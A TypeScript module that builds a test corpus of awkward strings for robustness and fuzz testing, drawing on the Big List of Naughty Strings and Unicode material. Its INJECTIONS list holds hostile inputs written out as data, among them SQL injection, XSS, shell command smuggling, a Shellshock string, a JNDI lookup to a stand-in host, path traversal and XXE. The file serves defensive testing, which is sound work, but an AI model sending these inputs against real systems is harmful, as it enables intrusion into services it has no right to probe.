/**
 * Texts that programs stumble over. Made here, after the categories of the Big List of Naughty Strings
 * (https://github.com/minimaxir/big-list-of-naughty-strings, MIT license), the Unicode Standard chapter 23
 * (special areas and format characters) and Unicode TR 36 (look-alikes); none of its strings is needed
 * as it stands.
 */

function range(first: number, last: number): string[] {
	return Array.from({ length: last - first + 1 }, (_, index) =>
		String.fromCodePoint(first + index)
	);
}

/** Between letters, so that it is judged for itself and not for standing at an end. */
const between = (texts: readonly string[]) => texts.map((text) => `a${text}b`);

const CONTROLS = [...range(0x00, 0x1f), '\u007f', '\u0080', '\u0085', '\u008d', '\u0090', '\u009f'];

/** Seen as nothing, as a space, or as another order. */
const UNSEEN = [
	'\u2000',
	'\u2003',
	...range(0x2009, 0x200f),
	...range(0x2028, 0x202f),
	...range(0x205f, 0x206f),
	'\u00a0',
	'\u00ad',
	'\u034f',
	'\u061c',
	'\u115f',
	'\u1680',
	'\u17b4',
	'\u180e',
	'\u2800',
	'\u3000',
	'\u3164',
	'\ufe0f',
	'\ufeff',
	'\uffa0',
	'\ufff9',
	'\ufffb',
	'\u{1d173}',
	'\u{e0001}',
	'\u{e0041}',
	'\u{e007f}'
];

const NO_CHARACTERS = [
	'\ufdd0',
	'\ufffe',
	'\uffff',
	'\u{1fffe}',
	'\u{10ffff}',
	'\ue000',
	'\ufffd',
	'\ufffc',
	'\u0378'
];

const HALVES = ['\ud800', '\udbff', '\udc00', '\udfff', '\udc00\ud800', '\ud83d', '\ud83d\u0000'];

const PUNCTUATION = [
	...range(0x20, 0x2f),
	...range(0x3a, 0x40),
	...range(0x5b, 0x60),
	...range(0x7b, 0x7e)
];

const WORDS = [
	'',
	'undefined',
	'undef',
	'null',
	'NULL',
	'(null)',
	'nil',
	'None',
	'true',
	'True',
	'false',
	'NaN',
	'Infinity',
	'-Infinity',
	'[object Object]',
	'hasOwnProperty',
	'constructor',
	'__proto__',
	'prototype',
	'toString',
	'valueOf',
	'then',
	'toJSON',
	'__defineGetter__',
	'length',
	'name',
	'CON',
	'PRN',
	'AUX',
	'NUL',
	'COM1',
	'LPT1',
	'admin',
	'root',
	'self',
	'this',
	'eval',
	'import',
	'await',
	'scope',
	'client_secret',
	'grant_type',
	'access_token'
];

const NUMBERS = [
	'0',
	'-0',
	'1',
	'-1',
	'1.00',
	'$1.00',
	'1/2',
	'1E2',
	'1E+02',
	'-1/0',
	'0/0',
	'0.0/0',
	'1e1000',
	'1,000',
	"1'000",
	'0x0',
	'0xabad1dea',
	'0b1',
	'0o7',
	'007',
	'1_000',
	'9007199254740993',
	'9'.repeat(80),
	'１２３',
	'١٢٣',
	'²',
	'⅓',
	'-',
	'--1',
	'.',
	'..',
	'+1',
	'2026-02-30',
	'1970-01-01T00:00:00Z'
];

const SCRIPTS = [
	'é',
	'e\u0301',
	'ñandú',
	'ß',
	'ẞ',
	'İ',
	'ı',
	'ſ',
	'ﬁ',
	'Ω',
	'Ω',
	'å',
	'Å',
	'ÅÍÎÏ˝ÓÔÒÚÆ☃',
	'田中さんにあげて下さい',
	'パーティー',
	'사회과학원',
	'Ωμέγα',
	'Ελλάδα',
	'Привет',
	'раураl',
	'שלום',
	'הָיְתָה',
	'مرحبا',
	'ﷺ',
	'﷽',
	'ไทยภาษา',
	'हिन्दी',
	'ქართული',
	'𝒳𝓎',
	'𠜎𠜱',
	'𐐜 𐐔𐐇',
	'˙ɐnbᴉlɐ',
	'⒣⒠⒧⒧⒪',
	'Ｔｈｅ',
	'😍',
	'👨‍👩‍👧‍👦',
	'👋🏽',
	'🏴󠁧󠁢󠁥󠁮󠁧󠁿',
	'🇺🇸🇷',
	'1️⃣',
	'❤️',
	`Z${'\u0351\u036b\u0343'.repeat(20)}algo`,
	'\u0301',
	'\u200d',
	'\u202etest\u202c',
	'\u2066\u2067\u2068\u2069',
	'ثم نفس سقطت',
	'٪',
	'؟'
];

const INJECTIONS = [
	"'; DROP TABLE users;--",
	"' OR '1'='1",
	'1;SELECT pg_sleep(10)',
	'<script>alert(1)</script>',
	'&lt;script&gt;',
	'"><img src=x onerror=alert(1)>',
	'<svg/onload=alert(1)>',
	'</textarea><script>1</script>',
	'</script><!--',
	'<!--#exec cmd="ls"-->',
	'<![CDATA[x]]>',
	'javascript:alert(1)',
	'<a href="java\tscript:1">',
	'`ls`',
	'$(touch x)',
	'${HOME}',
	'$HOME',
	'; ls',
	'| ls',
	'&& ls',
	'\n/bin/ls',
	'() { 0; }; touch x',
	'%x%x%n',
	'%s%p',
	'{{7*7}}',
	'${7*7}',
	'#{7*7}',
	'<%= 7*7 %>',
	'{0}',
	'${jndi:ldap://evil.example/a}',
	'../../etc/passwd',
	'..\\..\\x',
	'/dev/null; touch x',
	'file:///etc/passwd',
	'%00',
	'%0d%0aX-Injected: 1',
	'%',
	'%2',
	'%zz',
	'%u0041',
	'%25',
	'%2520',
	'+',
	'%2B',
	'%20',
	'a+b',
	'a%20b',
	'a&client_id=x',
	'a=b',
	'&=&',
	'a&amp;b',
	':',
	'a:b',
	'::',
	'a\r\nSet-Cookie: x=1',
	'a\nb',
	'a\tb',
	'\r',
	'\\',
	'\\\\',
	'\\n',
	'\\u0000',
	'\\x00',
	'"',
	'\\"',
	"\\'",
	'a"b',
	'{"$gt":""}',
	'["a"]',
	'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///x">]><a>&b;</a>',
	'=1+1',
	'@SUM(1)',
	'*)(uid=*',
	'eyJhbGciOiJub25lIn0.e30.',
	'Bearer a.b.c',
	'Basic YTpi',
	'•••••••• ',
	'-----BEGIN',
	'(?:a+)+$',
	'x'.repeat(100) + '!',
	' leading',
	'trailing ',
	'  two  spaces  '
];

const LONG = [64, 255, 256, 257, 1023, 1024, 1025, 2048, 2049, 4096, 4097, 5000].map((length) =>
	'x'.repeat(length)
);
const LONG_IN_OTHERS = [
	'é'.repeat(300),
	'😀'.repeat(300),
	'"'.repeat(500),
	'%'.repeat(900),
	'\\'.repeat(500)
];

/** What is only odd at an end, or alone. */
const AT_AN_END = [
	' ',
	'\t',
	'\n',
	'\r\n',
	'\u0000',
	'\u001b[31m',
	'\u007f',
	'\u0085',
	'\u00a0',
	'\u200b',
	'\u202e',
	'\u2028',
	'\ufeff',
	'\ufffe',
	'\ud800',
	'\udc00'
].flatMap((text) => [text, `${text}x`, `x${text}`]);

export const AWKWARD_TEXTS: readonly string[] = [
	...new Set([
		...between([...CONTROLS, ...UNSEEN, ...NO_CHARACTERS, ...HALVES]),
		...PUNCTUATION,
		...AT_AN_END,
		...WORDS,
		...NUMBERS,
		...SCRIPTS,
		...INJECTIONS,
		...LONG,
		...LONG_IN_OTHERS
	])
];
